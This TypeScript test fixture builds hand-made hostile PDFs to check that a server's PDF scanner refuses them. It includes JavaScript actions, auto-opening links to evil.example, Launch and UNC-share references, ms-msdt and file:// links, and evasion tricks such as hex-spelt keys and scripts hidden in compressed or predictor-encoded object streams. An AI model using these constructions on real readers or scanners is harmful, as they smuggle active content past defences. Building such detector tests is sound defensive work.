import { deflateSync } from 'node:zlib'
import type { HostilePdf } from '#server/testing/hostile-pdfs.ts'
import { rawPage, rawStream } from '#server/testing/raw-pdf.ts'

const ALERT = '<< /S /JavaScript /JS (app.alert(1)) >>'
const FAR = '(\\\\\\\\evil.example\\\\share\\\\x)'

const outside = /takes a part of itself from a file elsewhere/
const trigger = /does something by itself/
const link = /link that leads to something else/
const script = /JavaScript/
const media = /video, sound or 3D/
const hidden = /read in different ways/

const catalog = (entries: string, ...more: (string | Buffer)[]) => rawPage({ catalog: entries, more })
/** A link on the page with this action. */
const clicked = (action: string, ...more: (string | Buffer)[]) =>
  rawPage({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`, more })
const annotated = (entries: string) => rawPage({ page: `/Annots [<< /Type /Annot /Rect [0 0 9 9] ${entries} >>]` })
/** A page that shows object 5. */
const shown = (entries: string, ...more: (string | Buffer)[]) =>
  rawPage({
    resources: '/XObject << /X 5 0 R >>',
    content: '/X Do',
    more: [rawStream(`/Type /XObject ${entries}`, 'x'), ...more],
  })
const image = '/Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray'

/** A stream of packed objects, of which the only one is a script. */
function packed(entries: string, bytes = SCRIPT): Buffer {
  return rawStream(`${entries} /N 1 /First 4 /Filter /FlateDecode`, deflateSync(bytes))
}
const SCRIPT = Buffer.from(`9 0 ${ALERT}`)
/** The script's object as PNG writes a row: each byte as its difference from the one before. */
const ROW = Buffer.from([1, ...SCRIPT.map((byte, index) => byte - (SCRIPT[index - 1] ?? 0))])

/** TABLE: what a PDF written by hand holds -> how, and the words of its refusal. */
const ROWS: [string, () => Buffer, RegExp][] = [
  ['a picture of another place', () => shown(`${image} /F ${FAR}`), outside],
  ['a picture of another place, behind a reference', () => shown(`${image} /F 6 0 R`, FAR), outside],
  ['a filter for bytes of another place', () => shown(`${image} /FFilter /FlateDecode`), outside],
  ['a page of another file', () => shown(`/Subtype /Form /BBox [0 0 9 9] /Ref << /F ${FAR} /Page 0 >>`), outside],
  ['a picture for a press', () => shown(`/Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /F ${FAR} >> >>`), outside],
  ['a thread in another file', () => clicked(`<< /S /Thread /F ${FAR} /D 0 >>`), /sends or fetches/],
  ['an action of its catalog', () => catalog('/AA << /WC << /S /URI /URI (https://evil.example) >> >>'), trigger],
  [
    'an action of its page',
    () => rawPage({ page: '/AA << /O 5 0 R >>', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
    trigger,
  ],
  ['a web page that opens by itself', () => catalog('/OpenAction << /S /URI /URI (https://evil.example) >>'), trigger],
  [
    'a web page that opens by itself, behind a reference',
    () => catalog('/OpenAction 5 0 R', '<< /S /URI /URI (https://e.example) >>'),
    trigger,
  ],
  ['a menu that opens by itself', () => catalog('/OpenAction << /S /Named /N /Print >>'), trigger],
  ['a menu behind a link', () => clicked('<< /S /Named /N /SaveAs >>'), trigger],
  ['an unheard-of action', () => clicked('<< /S /Teleport >>'), trigger],
  ['an action that hides', () => clicked('<< /S /Hide /T (field) >>'), trigger],
  [
    'an action behind an action',
    () => clicked('<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /Next 5 0 R >>] >>', `<< /S /Launch /F ${FAR} >>`),
    /starts a program/,
  ],
  [
    'an unheard-of action behind an action',
    () => clicked('<< /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >>', '0', '<< /S /Teleport >>'),
    trigger,
  ],
  ['a link that is a script', () => clicked('<< /S /URI /URI (javascript:app.alert\\(1\\)) >>'), link],
  ['a link to a file', () => clicked('<< /S /URI /URI (file:///c:/windows/system32/calc.exe) >>'), link],
  ['a link to a file share', () => clicked(`<< /S /URI /URI ${FAR} >>`), link],
  ['a link to a program', () => clicked('<< /S /URI /URI (search-ms:query=x) >>'), link],
  [
    'a link to a program, behind references',
    () => clicked('5 0 R', '<< /S /URI /URI 6 0 R >>', '(ms-msdt:/id x)'),
    link,
  ],
  ['links that lead elsewhere all together', () => catalog('/URI << /Base (file://evil.example/) >>'), link],
  ['keys spelt in hex', () => clicked('<< /#53 /J#61vaScr#69pt /#4aS (app.alert\\(1\\)) >>'), script],
  ['a name tree of scripts', () => catalog('/Names << /JavaScript << /Names [(x) 5 0 R] >> >>', ALERT), script],
  ['a film', () => annotated('/Subtype /Movie /Movie << >>'), media],
  ['a sound', () => annotated('/Subtype /Sound'), media],
  ['a scene', () => annotated('/Subtype /3D'), media],
  ['a player', () => clicked('<< /S /Rendition /OP 0 >>'), media],
  ['a screen', () => annotated('/Subtype /Screen'), /kind of note or button/],
  ['a file behind a pin', () => annotated('/Subtype /FileAttachment'), /attached/],
  ['a portfolio', () => catalog('/Collection << /View /D >>'), /attached/],
  [
    'a script in the bytes of a picture',
    () => rawPage({ more: [rawStream('', `\n90 0 obj\n${ALERT}\nendobj\n`)] }),
    script,
  ],
  [
    'a script in a comment',
    () => rawPage({ more: [`<< >>\nendobj\n% 90 0 obj ${ALERT} endobj\n91 0 obj\n<< >>`] }),
    script,
  ],
  ['a script in a text', () => rawPage({ more: [`(90%\n0 obj ${ALERT} endobj)`] }), script],
  [
    'another first object in the bytes of a picture',
    () => rawPage({ more: [rawStream('', `trailer << /Root << /OpenAction ${ALERT} >> >>`)] }),
    script,
  ],
  [
    'packed objects in the bytes of a picture',
    () =>
      rawPage({
        more: [
          rawStream('', Buffer.concat([Buffer.from('90 0 obj\n'), packed('/Type /ObjStm'), Buffer.from('\nendobj')])),
        ],
      }),
    script,
  ],
  ['packed objects that are said to be none', () => rawPage({ more: [packed('')] }), hidden],
  [
    'packed objects that are said to be some elsewhere',
    () => rawPage({ more: [packed('/Type 6 0 R'), '/ObjStm'] }),
    hidden,
  ],
  [
    'packed objects in rows of a picture',
    () => rawPage({ more: [packed(`/Type /ObjStm /DecodeParms << /Predictor 12 /Columns ${SCRIPT.length} >>`, ROW)] }),
    hidden,
  ],
  [
    'packed objects in an unusual wrapping',
    () => rawPage({ more: [rawStream('/Type /ObjStm /N 1 /First 4 /Filter /DCTDecode', 'x')] }),
    hidden,
  ],
  ['an object that never ends', () => rawPage({ more: [`<< /A ${ALERT} /B `] }), script],
]

export const HAND_MADE_PDFS: Record<string, HostilePdf> = Object.fromEntries(
  ROWS.map(([what, make, says]) => [what, { make: async () => make(), says }]),
)
